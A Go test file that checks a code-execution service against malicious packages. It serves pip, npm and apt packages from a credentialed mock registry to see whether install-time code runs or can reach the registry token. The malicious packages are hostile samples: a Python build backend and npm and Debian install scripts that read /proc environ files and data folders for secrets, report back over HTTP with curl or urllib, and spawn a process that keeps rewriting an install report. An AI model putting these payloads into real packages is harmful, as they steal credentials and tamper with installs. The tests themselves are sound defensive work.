package network

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha512"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"notebox/tests/e2e/service"
)

// What signs in to a registry of the tests, and who takes it for a secret.
const (
	registryUser  = "joe"
	registryToken = "s3cr3t-t0ken"
	// registryName is at outsideHost: npm does not know a host behind a proxy by an address.
	registryName = "registry.test"
)

// atOutside is a network where the registry is at outsideHost.
var atOutside = map[string]string{"hosts": outsideHost + " " + registryName + "\n"}

// registryServer is a registry of pip, npm and apt that takes nobody without a credential, and where
// packages are hostile.
type registryServer struct {
	*httptest.Server
	ca    string // file; "" in the clear
	files map[string][]byte

	mu       sync.Mutex
	unsigned []string // requests that were signed in by nothing
	ran      []string // what code of packages has said
}

func newRegistry(t *testing.T, secure bool) *registryServer {
	r := &registryServer{files: map[string][]byte{}}
	r.Server = serverAt(t, r)
	if secure {
		o := &outside{}
		r.TLS = &tls.Config{Certificates: []tls.Certificate{o.newCertificate(t)}, MinVersion: tls.VersionTLS12}
		r.StartTLS()
		r.ca = o.ca
	} else {
		r.Start()
	}
	r.URL = strings.Replace(r.URL, outsideHost, registryName, 1)
	return r
}

// ServeHTTP answers with the files, and hears what code of packages has to say at /ran.
func (r *registryServer) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	user, password, _ := req.BasicAuth()
	signed := user == registryUser && password == registryToken || req.Header.Get("Authorization") == "Bearer "+registryToken
	r.mu.Lock()
	defer r.mu.Unlock()
	if !signed {
		r.unsigned = append(r.unsigned, req.URL.Path)
	}
	content, found := r.files[strings.Trim(path.Clean(req.URL.Path), "/")]
	switch {
	case req.URL.Path == "/ran":
		r.ran = append(r.ran, req.URL.RawQuery)
	case !signed:
		http.Error(w, "who are you", http.StatusUnauthorized)
	case !found:
		http.NotFound(w, req)
	default:
		if strings.HasPrefix(req.URL.Path, "/simple/") {
			w.Header().Set("Content-Type", "text/html")
		}
		_, _ = w.Write(content)
	}
}

// said is what code of packages has said so far, and which requests were not signed in.
func (r *registryServer) said() (ran, unsigned []string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.ran), slices.Clone(r.unsigned)
}

// at is the registry's address with a name and a password in it.
func (r *registryServer) at(path string) string {
	return strings.Replace(r.URL, "://", "://"+registryUser+":"+registryToken+"@", 1) + path
}

// serve starts a service that installs from the registry. It is stopped at the end of the test, without
// its layers.
func (r *registryServer) serve(t *testing.T, name string, flags ...string) *service.Service {
	removeLayers(t, name)
	return service.Options{Name: name, Etc: atOutside, Flags: slices.Concat(r.flags(t), []string{"--pool-size", "0"}, flags)}.Start(t)
}

// flags name the registry to a service.
func (r *registryServer) flags(t *testing.T) []string {
	folder := t.TempDir()
	write := func(name, content string) string {
		name = filepath.Join(folder, name)
		require.NoError(t, os.WriteFile(name, []byte(content), 0o600))
		return name
	}
	ca, pip := r.ca, "[global]\nindex-url = "+r.at("/simple")+"\n"
	if ca == "" {
		ca, pip = "off", pip+"trusted-host = "+registryName+"\n"
	}
	return []string{
		"--dependencies-ca", ca,
		"--dependencies-pip-conf", write("pip.conf", pip),
		"--dependencies-npmrc", write("npmrc", "registry="+r.URL+"/npm/\n"+strings.TrimPrefix(strings.TrimPrefix(r.URL, "http:"), "https:")+"/npm/:_authToken="+registryToken+"\n"),
		"--dependencies-sources", write("sources.list", "deb [trusted=yes] "+r.at("/apt")+" ./\n"),
	}
}

// addWheel puts a package into the index whose module has an ANSWER.
func (r *registryServer) addWheel(t *testing.T, name string, requires ...string) {
	metadata := "Metadata-Version: 2.1\nName: " + name + "\nVersion: 1.0\nProvides-Extra: more\n"
	for _, wanted := range requires {
		metadata += "Requires-Dist: " + wanted + "\n"
	}
	info, file := name+"-1.0.dist-info/", name+"-1.0-py3-none-any.whl"
	r.files["simple/"+name] = fmt.Appendf(nil, `<a href="/files/%s">%s</a>`, file, file)
	r.files["files/"+file] = zipped(t, [][2]string{
		{name + ".py", "ANSWER = 42\n"},
		{info + "METADATA", metadata},
		{info + "WHEEL", "Wheel-Version: 1.0\nGenerator: notebox\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
		{info + "RECORD", name + ".py,,\n" + info + "METADATA,,\n" + info + "WHEEL,,\n" + info + "RECORD,,\n"},
	})
}

// evilBackend says that it runs and what it can read of the operator's, has a process rewrite
// the report of pip for as long as that lives, and builds a module that has what it read.
const evilBackend = `import glob, os, subprocess, sys, urllib.parse, urllib.request, zipfile

READ = ""
for name in glob.glob("/mnt/data/**", recursive=True) + glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        READ += open(name, errors="replace").read(100_000)
    except OSError:
        pass
found = "secret" if "TOKEN" in READ else "nothing"
try:
    urllib.request.urlopen("URL/ran?" + found, timeout=5)
except OSError:
    pass
subprocess.Popen([sys.executable, "-c", '''
import glob, os, time
while True:
    for name in glob.glob("/mnt/data/**/report.json", recursive=True):
        open(name, "w").write('{"install": []}')
    time.sleep(0.001)
'''], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def prepare_metadata_for_build_wheel(folder, config_settings=None):
    info = os.path.join(folder, "evil-1.0.dist-info")
    os.mkdir(info)
    open(os.path.join(info, "METADATA"), "w").write("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    return "evil-1.0.dist-info"


def build_wheel(folder, config_settings=None, metadata_directory=None):
    with zipfile.ZipFile(os.path.join(folder, "evil-1.0-py3-none-any.whl"), "w") as wheel:
        for name, content in {
            "evil.py": f"ANSWER = {found!r}\n",
            "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
            "evil-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
            "evil-1.0.dist-info/RECORD": "",
        }.items():
            wheel.writestr(name, content)
    return "evil-1.0-py3-none-any.whl"
`

// addEvil puts a source distribution at /files/evil-1.0.tar.gz and into the index.
func (r *registryServer) addEvil(t *testing.T) {
	backend := strings.NewReplacer("URL", r.URL, "TOKEN", registryToken).Replace(evilBackend)
	// The name of the secret itself is in no file, or the backend would find it in its own.
	backend = strings.ReplaceAll(backend, `"`+registryToken+`"`, fmt.Sprintf("%q + %q", registryToken[:4], registryToken[4:]))
	r.files["files/evil-1.0.tar.gz"] = packed(t, [][2]string{
		{"evil-1.0/pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n"},
		{"evil-1.0/backend.py", backend},
		{"evil-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"},
	})
	r.files["simple/evil"] = []byte(`<a href="/files/evil-1.0.tar.gz">evil-1.0.tar.gz</a>`)
}

// addNPM puts a package of npm into the registry, with scripts that say that they run and
// what they can read, and with more files, which are a lockfile's.
func (r *registryServer) addNPM(t *testing.T, name string, wants map[string]string, more ...[2]string) {
	const script = `cat /mnt/data/settings/* /proc/*/environ 2>/dev/null | grep -q s3cr3t-t0k[e]n && found=secret; curl -s -m 5 "URL/ran?${found:-nothing}"; true`
	run := strings.ReplaceAll(script, "URL", r.URL)
	manifest := map[string]any{
		"name": name, "version": "1.0.0", "main": "main.js", "dependencies": wants,
		"scripts": map[string]string{"preinstall": run, "install": run, "postinstall": run, "prepare": run},
	}
	raw, err := json.Marshal(manifest)
	require.NoError(t, err)
	file := packed(t, append([][2]string{
		{"package/package.json", string(raw)}, {"package/main.js", "module.exports = 42\n"},
		{"package/.npmrc", "ignore-scripts=false\nallow-git=all\n"},
	}, more...))
	manifest["_hasShrinkwrap"] = len(more) > 0
	sum := sha512.Sum512(file)
	manifest["dist"] = map[string]string{
		"tarball": r.URL + "/npm/files/" + name + ".tgz", "integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:]),
	}
	raw, err = json.Marshal(map[string]any{
		"name": name, "dist-tags": map[string]string{"latest": "1.0.0"}, "versions": map[string]any{"1.0.0": manifest},
	})
	require.NoError(t, err)
	r.files["npm/"+name], r.files["npm/files/"+name+".tgz"] = raw, file
}

// addDebian puts a package of Debian into the repository, with scripts that say that they run.
func (r *registryServer) addDebian(t *testing.T, name string) {
	control := fmt.Sprintf("Package: %s\nVersion: 1.0-1\nArchitecture: all\nMaintainer: nobody <nobody@a.test>\nDescription: none\n", name)
	script := "#!/bin/sh\ncurl -s " + r.URL + "/ran?script\n"
	var deb bytes.Buffer
	deb.WriteString("!<arch>\n")
	for _, part := range []struct {
		name    string
		content []byte
	}{
		{"debian-binary", []byte("2.0\n")},
		{"control.tar.gz", packed(t, [][2]string{{"./control", control}, {"./preinst", script}, {"./postinst", script}})},
		{"data.tar.gz", packed(t, [][2]string{{"./usr/bin/" + name, "#!/bin/sh\necho 42\n"}})},
	} {
		fmt.Fprintf(&deb, "%-16s%-12d%-6d%-6d%-8s%-10d`\n", part.name, 0, 0, 0, "100644", len(part.content))
		deb.Write(part.content)
		if len(part.content)%2 == 1 {
			deb.WriteByte('\n')
		}
	}
	sum := sha512.Sum512(deb.Bytes())
	r.files["apt/"+name+".deb"] = deb.Bytes()
	r.files["apt/Packages"] = fmt.Appendf(r.files["apt/Packages"], "%sFilename: ./%s.deb\nSize: %d\nSHA512: %x\n\n", control, name, deb.Len(), sum)
}

func zipped(t *testing.T, files [][2]string) []byte {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, f := range files {
		part, err := z.Create(f[0])
		require.NoError(t, err)
		_, err = io.WriteString(part, f[1])
		require.NoError(t, err)
	}
	require.NoError(t, z.Close())
	return out.Bytes()
}

func packed(t *testing.T, files [][2]string) []byte {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	archive := tar.NewWriter(z)
	for _, f := range files {
		mode := int64(0o644)
		if strings.HasPrefix(f[1], "#!") {
			mode = 0o755
		}
		require.NoError(t, archive.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: f[0], Size: int64(len(f[1])), Mode: mode}))
		_, err := io.WriteString(archive, f[1])
		require.NoError(t, err)
	}
	require.NoError(t, archive.Close())
	require.NoError(t, z.Close())
	return out.Bytes()
}

// install asks a service for a package, and returns the reply and all of its text.
func install(t *testing.T, p *service.Service, language, code string, packages ...string) (r service.Reply, raw string) {
	body, err := json.Marshal(map[string]any{"language": language, "code": code, "dependencies": packages})
	require.NoError(t, err)
	status, answer := service.Post(t, p.URL+"/v1/execute", "application/json", body)
	require.Equal(t, http.StatusOK, status, "%s", answer)
	require.NoError(t, json.Unmarshal(answer, &r))
	return r, string(answer)
}

// TestRegistryThatIsSignedInTo: packages of a registry that wants a credential can be had in each
// language, and no sandbox has the credential, nor the log.
func TestRegistryThatIsSignedInTo(t *testing.T) {
	t.Parallel()
	for _, secure := range []bool{true, false} {
		t.Run(fmt.Sprintf("TLS %t", secure), func(t *testing.T) {
			t.Parallel()
			r := newRegistry(t, secure)
			r.addWheel(t, "fine")
			r.addNPM(t, "fine", nil)
			r.addDebian(t, "fine")
			p := r.serve(t, fmt.Sprintf("signed-in-%t", secure))
			for _, c := range []struct{ language, code string }{
				{"python", "import fine; print(fine.ANSWER)"},
				{"javascript", "console.log(require('fine'))"},
				{"bash", "fine"},
			} {
				t.Run(c.language, func(t *testing.T) {
					reply, raw := install(t, p, c.language, c.code, "fine")
					require.Equal(t, "42\n", reply.Text, raw)
					require.False(t, reply.Install.Cached)
				})
			}
			ran, unsigned := r.said()
			require.Empty(t, ran, "code of packages has run")
			require.Empty(t, unsigned)
			require.NotContains(t, p.Logged(), registryToken)
		})
	}
}

// TestLockfileInAPackage: npm has what a package wants from the registry, and not from where a
// lockfile in the package says.
func TestLockfileInAPackage(t *testing.T) {
	t.Parallel()
	r := newRegistry(t, false)
	r.addNPM(t, "fine", nil)
	r.files["npm/files/other.tgz"] = packed(t, [][2]string{
		{"package/package.json", `{"name":"fine","version":"1.0.0","main":"main.js"}`}, {"package/main.js", "module.exports = 'other'\n"},
	})
	lock := fmt.Sprintf(`{"name":"locked","version":"1.0.0","lockfileVersion":3,"packages":{"":{"name":"locked"},
		"node_modules/fine":{"version":"1.0.0","resolved":"%s/npm/files/other.tgz"}}}`, r.URL)
	for _, file := range []string{"npm-shrinkwrap.json", "package-lock.json"} {
		r.addNPM(t, "locked-"+file[:3], map[string]string{"fine": "*"}, [2]string{"package/" + file, lock})
	}
	p := r.serve(t, "locked")
	for _, name := range []string{"locked-npm", "locked-pac"} {
		_, raw := install(t, p, "javascript", "console.log(require(require.resolve('fine', {paths: ['/opt/dependencies/node_modules/"+name+"']})))", name)
		require.Contains(t, raw, `"text":"42\n"`)
	}
	ran, _ := r.said()
	require.Empty(t, ran, "code of packages has run")
}

// TestNoCodeOfPackagesRuns while they are installed without --dependencies-builds, in whichever way a
// package names another that is not prebuilt.
func TestNoCodeOfPackagesRuns(t *testing.T) {
	t.Parallel()
	r := newRegistry(t, false)
	r.addEvil(t)
	r.addWheel(t, "fine")
	evil := r.URL + "/files/evil-1.0.tar.gz"
	python := map[string]string{
		"direct":     "evil @ " + evil,
		"signed":     "evil @ " + r.at("/files/evil-1.0.tar.gz"),
		"extra":      "evil @ " + evil + ` ; extra == "more"`,
		"deep":       "direct",
		"repository": "evil @ git+" + r.URL + "/evil.git",
		"path":       "evil @ file:///mnt/data/pip",
		"wheel":      "fine @ " + r.URL + "/files/fine-1.0-py3-none-any.whl",
		"indexed":    "evil",
	}
	for name, wanted := range python {
		r.addWheel(t, name, wanted)
	}
	npm := map[string]string{
		"tarball": r.URL + "/npm/files/evil.tgz", "git": "git+" + r.URL + "/evil.git", "hosted": "github:a/evil", "file": "file:../../settings",
		"above": "../..", "alias": "npm:evil@" + r.URL + "/npm/files/evil.tgz",
	}
	r.addNPM(t, "evil", nil)
	for name, wanted := range npm {
		r.addNPM(t, name, map[string]string{"evil": wanted})
	}
	r.addNPM(t, "nested", map[string]string{"tarball": "*"})

	p := r.serve(t, "no-code")
	asked := map[string][]string{"python": slices.Sorted(maps.Keys(python)), "javascript": append(slices.Sorted(maps.Keys(npm)), "nested")}
	for language, names := range asked {
		for _, name := range names {
			t.Run(language+" "+name, func(t *testing.T) {
				t.Parallel()
				if name == "extra" {
					name = "extra[more]"
				}
				reply, raw := install(t, p, language, "1", name)
				ran, _ := r.said()
				require.Empty(t, ran, "code of a package has run")
				require.Equal(t, "error", reply.Status, raw)
				require.Equal(t, "Unresolvable", reply.Error.Name, raw)
				require.NotContains(t, raw, registryToken)
			})
		}
	}
}

// TestBuildsHaveNoCredentials: code of packages that runs while they are installed, if the
// operator allows that, finds no credential, and what it leaves behind does not rewrite what is installed.
func TestBuildsHaveNoCredentials(t *testing.T) {
	t.Parallel()
	for _, secure := range []bool{true, false} {
		t.Run(fmt.Sprintf("TLS %t", secure), func(t *testing.T) {
			t.Parallel()
			r := newRegistry(t, secure)
			r.addEvil(t)
			r.addWheel(t, "needs", "evil")
			r.addNPM(t, "evil", nil)
			p := r.serve(t, fmt.Sprintf("builds-%t", secure), "--dependencies-builds")
			reply, raw := install(t, p, "python", "import evil; print(evil.ANSWER)", "needs")
			require.Equal(t, "nothing\n", reply.Text, raw)
			require.Len(t, reply.Install.Packages, 2, "as pip had resolved them")
			reply, raw = install(t, p, "javascript", "console.log(require('evil'))", "evil")
			require.Equal(t, "42\n", reply.Text, raw)
			ran, _ := r.said()
			require.NotEmpty(t, ran)
			require.NotContains(t, ran, "secret")
		})
	}
}
